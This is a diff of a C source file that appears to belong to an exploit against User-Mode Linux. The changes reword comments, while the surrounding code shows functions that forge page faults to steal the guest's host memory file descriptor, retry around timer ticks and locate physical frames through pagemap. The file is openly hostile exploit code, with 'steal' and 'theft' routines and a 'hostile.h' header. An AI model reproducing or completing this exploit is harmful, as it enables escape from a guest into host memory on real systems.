@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: GPL-2.0-only
 /*
- * The memory fd: a forged page fault makes the kernel queue an mmap and send
- * the fd to the stub's socket. The stub's code is not there to receive it.
+ * Stealing the memory fd: a forged page fault makes the kernel queue an mmap and
+ * send the fd to the stub's socket. The attacker receives it before the stub's code.
  */
 #include "hostile.h"
 
@@ -31,7 +31,7 @@ static int receive_fd(void)
 	return fd;
 }
 
-/* The batch in the stub's data tells address, length and offset. */
+/* The batch in the stub's data has address, length and offset. */
 long queued_offset(uintptr_t addr)
 {
 	const uint64_t *p = (const uint64_t *)stub.data;
@@ -43,7 +43,7 @@ long queued_offset(uintptr_t addr)
 	return -1;
 }
 
-/* Root can ask the guest kernel for the frame instead. */
+/* Root can ask the guest kernel for the frame. */
 static long pagemap_offset(uintptr_t addr)
 {
 	uint64_t entry = 0;
@@ -71,9 +71,9 @@ static void forge_fault(uintptr_t addr, bool write)
 }
 
 /*
- * Have the kernel hand out the memory fd for a page at @addr, which must not
- * be present yet. A timer tick may get in between, then the stub's own code
- * takes the fd: the caller tries again with another page.
+ * Makes the kernel send the memory fd for a page at @addr, which must not be present
+ * yet. If a timer tick comes in between, the stub's own code receives the fd: the
+ * caller tries again with another page.
  */
 bool steal_fd(uintptr_t addr, bool write, struct frame_grant *grant)
 {
@@ -87,12 +87,12 @@ bool steal_fd(uintptr_t addr, bool write, struct frame_grant *grant)
 		grant->offset = pagemap_offset(addr);
 	if (grant->fd >= 0 && grant->offset >= 0)
 		return true;
-	if (grant->fd >= 0)	/* it would change the next one's number */
+	if (grant->fd >= 0)	/* so that the next one has the same number */
 		host_call(SYS_close, grant->fd);
 	return false;
 }
 
-/* To be done first: these look-ups make processes, and so reports. */
+/* Finds the sites first, since that forks and so makes reports. */
 void prepare_theft(void)
 {
 	need_report();
@@ -102,7 +102,7 @@ void prepare_theft(void)
 	block_ticks();
 }
 
-/* Returns the address of the page that came with the fd, @size reserved. */
+/* Returns the address of the page that came with the fd; @size bytes are reserved there. */
 uintptr_t steal_fd_somewhere(size_t size, struct frame_grant *grant)
 {
 	int i;
@@ -117,7 +117,7 @@ uintptr_t steal_fd_somewhere(size_t size, struct frame_grant *grant)
 		 STEAL_TRIES);
 }
 
-/* The physical memory's size is where the last zone ends. */
+/* Physical memory ends with the last zone. */
 size_t memory_size(void)
 {
 	unsigned long value, spanned = 0, pages = 0;
